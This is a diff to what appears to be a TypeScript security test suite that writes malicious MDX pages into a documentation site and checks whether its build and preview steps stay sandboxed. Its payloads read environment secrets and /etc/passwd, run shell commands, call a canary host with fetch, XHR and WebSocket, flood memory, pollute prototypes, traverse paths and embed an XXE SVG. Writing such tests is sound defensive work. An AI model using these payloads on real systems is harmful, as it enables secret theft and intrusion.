@@ -1,19 +1,18 @@
 /** Attacks by what is written into the site: it is loaded, compiled and rendered when it is checked and previewed. */
 import { type Attack, type Call, call, pageOf, type Targets, write } from './attack.ts'
 
-const PAGE = 'attack.mdx'
 const check = call('check', {})
-const preview = (path = PAGE) => call('preview', { path })
+const preview = (path: string) => call('preview', { path })
 
 export function contentAttacks({ canary, outside }: Targets): Attack[] {
-  /** Pages that are written and looked at one after the other; the last one is checked. */
-  const pages = (name: string, ...texts: string[]): Attack => ({
-    name,
-    steps: [
-      ...texts.map((text) => [write(PAGE, text.startsWith('---') ? text : pageOf(text)), preview()]),
-      [check],
-    ],
-  })
+  /** Pages that are written and checked together; those of the first `shown` are looked at. */
+  const pages = (name: string, shown: number, ...texts: string[]): Attack => {
+    const files = texts.map((_, index) => `attack-${index}.mdx`)
+    const written = texts.map((text, index) =>
+      write(files[index] as string, text.startsWith('---') ? text : pageOf(text)),
+    )
+    return { name, steps: [written, [check], files.slice(0, shown).map(preview)] }
+  }
   const files = (name: string, ...calls: Call[]): Attack => ({ name, steps: [[...calls, check]] })
   /** What stands in docs.json before its settings. */
   const settings = (name: string, ...texts: string[]): Attack => ({
@@ -27,6 +26,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
   return [
     pages(
       'expressions that want the environment',
+      4,
       '{process.env.OCTAVO_SECRET} {JSON.stringify(process.env)}',
       '{globalThis.process?.env?.DATABASE_URL} {typeof process} {Object.keys(globalThis).join(" ")}',
       '{this?.constructor?.constructor("return process")().env}',
@@ -34,6 +34,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'modules of Node',
+      5,
       'import { readFileSync } from "node:fs"\n\n{readFileSync("/etc/passwd", "utf8")}',
       'import fs from "fs"\n\n{fs.readFileSync("../.env", "utf8")}',
       '{require("node:child_process").execSync("env").toString()}',
@@ -42,6 +43,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'calls to other places',
+      2,
       `{fetch("${canary}/fetch").then((answer) => answer.text())}`,
       `export const x = new XMLHttpRequest()\n\n{(x.open("GET", "${canary}/xhr", false), x.send(), x.responseText)}`,
       `export const y = new WebSocket("${canary.replace('http', 'ws')}/socket")\n\n{String(y)}`,
@@ -50,18 +52,21 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'loops and floods',
+      1,
       '{(() => { for (;;) {} })()}',
       '{(() => { const kept = []; for (;;) kept.push(new Array(1e6).fill("x")) })()}',
       '{"x".repeat(2 ** 28)}',
     ),
     pages(
       'prototypes',
+      3,
       '{(() => { Object.prototype.polluted = "pwned"; Array.prototype.map = () => "pwned"; return 1 })()}',
       '{(() => { globalThis.JSON = { stringify: () => "pwned" }; String.prototype.replace = () => "pwned" })()}',
       '{(() => { throw { toString() { return globalThis.process?.env } } })()}',
     ),
     pages(
       'imports from outside',
+      3,
       'import Secret from "../internal/page.mdx"\n\n<Secret />',
       'import Secret from "/../internal/page.mdx"\n\n<Secret />',
       'import Secret from "/snippets/../../internal/page.mdx"\n\n<Secret />',
@@ -73,6 +78,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'pictures and frames from elsewhere',
+      1,
       `![x](${canary}/picture.png) <img src="${canary}/img.png" /> <iframe src="${canary}/frame"></iframe>`,
       `<script src="${canary}/script.js"></script>\n\n<link rel="stylesheet" href="${canary}/style.css" />`,
       '![x](../internal/secrets.env) ![y](/etc/passwd) ![z](file:///etc/passwd) ![w](/../internal/secret.json)',
@@ -81,6 +87,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'code, math and diagrams that include files',
+      2,
       '```sh file=../internal/secrets.env\n```\n\n```js src="/etc/passwd" include="../.env"\n```',
       '$$\\input{/etc/passwd} \\includegraphics{../.env} \\href{javascript:alert(1)}{x}$$',
       '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart\nA-->B\nclick A href "javascript:alert(1)"\n```',
@@ -89,6 +96,7 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
     ),
     pages(
       'frontmatter that leads away',
+      2,
       `---\ntitle: X\nopenapi: "${canary}/openapi.json GET /x"\n---\n`,
       '---\ntitle: X\nopenapi: "../internal/openapi.yaml GET /x"\n---\n',
       '---\ntitle: X\nurl: "http://169.254.169.254/latest/meta-data/"\n---\n',
@@ -186,8 +194,8 @@ export function contentAttacks({ canary, outside }: Targets): Attack[] {
         'attack.svg',
         `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}/svg')"><script>1</script><text>&x;</text><image href="${canary}/image"/></svg>`,
       ),
-      write(PAGE, pageOf('![x](attack.svg)')),
-      preview(),
+      write('attack.mdx', pageOf('![x](attack.svg)')),
+      preview('attack.mdx'),
     ),
   ]
 }
